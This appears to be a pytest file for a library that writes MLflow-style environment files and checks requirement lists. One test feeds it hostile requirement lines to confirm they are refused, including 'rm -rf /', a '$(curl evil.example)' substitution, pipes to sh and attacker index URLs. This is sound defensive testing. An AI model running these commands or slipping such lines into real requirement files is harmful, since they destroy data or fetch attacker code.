"""Environment files are written as MLflow 3.17 writes them, without its inference subprocess.

Known, deliberate differences from MLflow's files for the same requirement list:
- MLflow inserts ``mlflow==3.17.2`` as the first requirement (in ``requirements.txt`` and the
  ``pip:`` list of ``conda.yaml``); tiffin does not add itself or MLflow. Everything else,
  ``python_env.yaml`` included, is byte-for-byte the same.
- Contradictory specifiers are found by comparing pins, not by a ``pip install --dry-run``
  subprocess (which needs the network): ``a==1`` with ``a==2`` or ``a<1`` raises, two ranges
  that cannot meet (``a<1`` with ``a>2``) are merged unchecked.
- Requirement lines that pip or a shell would act on (options, URLs, VCS, ``$(``...) are refused;
  MLflow writes them through. ``-c constraints.txt`` is therefore not supported.
"""

from __future__ import annotations

import importlib.metadata
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import scipy.special
from sklearn.compose import ColumnTransformer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

from tiffin.errors import FormatError, NotFoundError
from tiffin.format.environment import (
    infer_requirements,
    read_requirements,
    requirement_mismatches,
    resolve_requirements,
    write_environment,
)

SKLEARN = f"scikit-learn=={importlib.metadata.version('scikit-learn')}"
NUMPY = f"numpy=={importlib.metadata.version('numpy')}"
SCIPY = f"scipy=={importlib.metadata.version('scipy')}"
MLFLOW_PIN = "mlflow==3.17.2"


def _squash(x: np.ndarray) -> np.ndarray:
    return np.asarray(scipy.special.expit(x))


@pytest.fixture(scope="module")
def pipeline() -> object:
    x = np.random.default_rng(0).random((40, 3))
    y = (x[:, 0] > 0.5).astype(int)
    columns = ColumnTransformer([("scale", StandardScaler(), [0, 1])], remainder="passthrough")
    return make_pipeline(columns, FunctionTransformer(_squash), LogisticRegression()).fit(x, y)


def test_files_match_what_mlflow_writes_for_the_same_requirements(tmp_path: Path) -> None:
    import mlflow.sklearn

    requested = ["scikit-learn", "pandas>=2", "numpy==2.4.6; python_version >= '3.8'"]
    mlflow.sklearn.save_model(
        LogisticRegression().fit([[0.0], [1.0]], [0, 1]),
        str(tmp_path / "mlflow"),
        pip_requirements=requested,
    )
    ours = tmp_path / "ours"
    ours.mkdir()
    env = write_environment(ours, resolve_requirements([], pip_requirements=requested))
    assert env == {"conda": "conda.yaml", "virtualenv": "python_env.yaml"}
    theirs = tmp_path / "mlflow"
    assert (ours / "python_env.yaml").read_bytes() == (theirs / "python_env.yaml").read_bytes()
    their_reqs = (theirs / "requirements.txt").read_text()
    assert their_reqs.startswith(MLFLOW_PIN + "\n")
    assert (ours / "requirements.txt").read_text() == their_reqs.removeprefix(MLFLOW_PIN + "\n")
    their_conda = (theirs / "conda.yaml").read_text().replace(f"  - {MLFLOW_PIN}\n", "")
    assert (ours / "conda.yaml").read_text() == their_conda
    assert read_requirements(ours) == read_requirements(theirs)[1:]


def test_merging_and_ordering_match_mlflow(monkeypatch: pytest.MonkeyPatch) -> None:
    from mlflow.utils.environment import _process_pip_requirements

    monkeypatch.setenv("MLFLOW_SKIP_PIP_REQUIREMENTS_CHECK", "true")  # no pip subprocess
    defaults = sorted([SKLEARN, NUMPY, "pandas==3.1.1"])
    extra = ["pandas>=2", "scikit-learn[extra]", "pyyaml"]
    _, theirs, _ = _process_pip_requirements(  # type: ignore[no-untyped-call]
        list(defaults), extra_pip_requirements=extra
    )
    assert theirs[0] == MLFLOW_PIN
    assert resolve_requirements(defaults, extra_pip_requirements=extra) == theirs[1:]
    assert "pandas==3.1.1,>=2" in theirs
    assert f"scikit-learn[extra]=={SKLEARN.split('==')[1]}" in theirs


def test_names_are_merged_by_canonical_name() -> None:
    # MLflow keys on the name as spelled and would keep both lines; pip would then see both.
    assert resolve_requirements([SKLEARN], extra_pip_requirements=["Scikit_Learn[extra]"]) == [
        f"scikit-learn[extra]=={SKLEARN.split('==')[1]}"
    ]


def test_defaults_are_pinned_and_sorted_with_inferred() -> None:
    resolved = resolve_requirements(["scikit-learn", "not-installed-pkg"], [NUMPY, SKLEARN])
    assert resolved == ["not-installed-pkg", NUMPY, SKLEARN]


def test_pip_requirements_replace_everything_in_given_order() -> None:
    assert resolve_requirements([SKLEARN], [NUMPY], pip_requirements=["b", "a", "b>1"]) == [
        "b>1",
        "a",
    ]
    with pytest.raises(FormatError, match="Only one of"):
        resolve_requirements([], pip_requirements=["a"], extra_pip_requirements=["b"])


def test_a_single_string_is_refused_showing_it() -> None:
    with pytest.raises(FormatError, match="single string 'scikit-learn'"):
        resolve_requirements([], pip_requirements="scikit-learn")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "conflict", [["numpy==1.0", "numpy==2.0"], ["numpy==1.0", "numpy<1"], ["a===1", "a==2"]]
)
def test_contradictory_pins_raise(conflict: list[str]) -> None:
    with pytest.raises(FormatError, match="contradict"):
        resolve_requirements([], extra_pip_requirements=conflict)


def test_local_version_label_loses_to_the_installable_pin() -> None:
    merged = resolve_requirements([], pip_requirements=["torch==2.1.0+cu121", "torch==2.1.0"])
    assert merged == ["torch==2.1.0"]


@pytest.mark.parametrize(
    "line",
    [
        "-e .",
        "-r other.txt",
        "--index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "git+https://github.com/evil/pkg",
        "pkg @ https://evil.example/pkg.whl",
        "pkg @ file:///tmp/pkg.whl",
        "./local/path",
        "/abs/path",
        "numpy; rm -rf /",
        "numpy $(curl evil.example)",
        "numpy`id`",
        "numpy && echo pwned",
        "numpy | sh",
        "numpy # comment",
        "numpy\nscipy",
        "numpy\\",
        "nümpy",
    ],
)
def test_unsafe_requirement_lines_are_refused(tmp_path: Path, line: str) -> None:
    with pytest.raises(FormatError, match="refused"):
        resolve_requirements([], pip_requirements=["scikit-learn", line])
    with pytest.raises(FormatError, match="refused"):
        write_environment(tmp_path, [line])
    (tmp_path / "requirements.txt").write_text(f"scikit-learn\n{line}")
    if "\n" not in line:
        with pytest.raises(FormatError, match="refused"):
            read_requirements(tmp_path)


def test_markers_and_extras_are_accepted() -> None:
    lines = ["numpy>=1.26; python_version >= '3.11' and sys_platform != 'win32'", "a[b,c]~=1.0"]
    assert resolve_requirements([], pip_requirements=lines) == [
        'numpy>=1.26; python_version >= "3.11" and sys_platform != "win32"',
        "a[b,c]~=1.0",
    ]


def test_inference_finds_the_pipeline_packages(pipeline: object) -> None:
    inferred = infer_requirements(pipeline)
    assert inferred == sorted([NUMPY, SCIPY, SKLEARN])  # scipy via _squash's globals
    with_modules = infer_requirements(pipeline, modules=["yaml", "json", "tiffin", "mlflow.sk"])
    pyyaml = f"pyyaml=={importlib.metadata.version('PyYAML')}"
    assert with_modules == [NUMPY, pyyaml, SKLEARN, SCIPY]


def test_inference_is_fast_after_warm_up(pipeline: object) -> None:
    infer_requirements(pipeline)
    timings = []
    for _ in range(5):
        start = time.perf_counter()
        infer_requirements(pipeline)
        timings.append(time.perf_counter() - start)
    assert min(timings) < 0.05


def test_inference_walk_is_bounded() -> None:
    deep: list[object] = []
    node = deep
    for _ in range(10_000):
        node.append([])
        node = node[0]  # type: ignore[assignment]
    cyclic: dict[str, object] = {}
    cyclic["self"] = cyclic
    start = time.perf_counter()
    assert infer_requirements(deep, cyclic, [np.zeros(3)] * 100_000) == [NUMPY]
    assert time.perf_counter() - start < 0.5


def test_read_requirements_skips_comments_and_falls_back_to_conda(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("# pinned\n\nnumpy==2.0\n  scipy\n")
    assert read_requirements(tmp_path) == ["numpy==2.0", "scipy"]
    (tmp_path / "requirements.txt").unlink()
    (tmp_path / "conda.yaml").write_text(
        "dependencies:\n- python=3.11.7\n- pip:\n  - mlflow==3.17.2\n  - numpy\n"
    )
    assert read_requirements(tmp_path) == ["mlflow==3.17.2", "numpy"]
    (tmp_path / "conda.yaml").unlink()
    with pytest.raises(NotFoundError):
        read_requirements(tmp_path)


def test_mismatches_are_reported_like_mlflow() -> None:
    installed = importlib.metadata.version("numpy")
    assert requirement_mismatches(
        [
            "numpy==0.1",
            NUMPY,
            "numpy<0; python_version < '3'",
            "definitely-not-installed-pkg==1.0",
            "mlflow==0.1",
            "-c constraints.txt",
        ]
    ) == [
        f"numpy (current: {installed}, required: numpy==0.1)",
        "definitely-not-installed-pkg (current: uninstalled, required: "
        "definitely-not-installed-pkg==1.0)",
    ]


def test_python_env_records_the_running_python(tmp_path: Path) -> None:
    write_environment(tmp_path, [])
    python = ".".join(map(str, sys.version_info[:3]))
    assert (tmp_path / "python_env.yaml").read_text().startswith(f"python: {python}\n")
    assert (tmp_path / "requirements.txt").read_text() == ""
    assert "pip<=" not in (tmp_path / "conda.yaml").read_text()
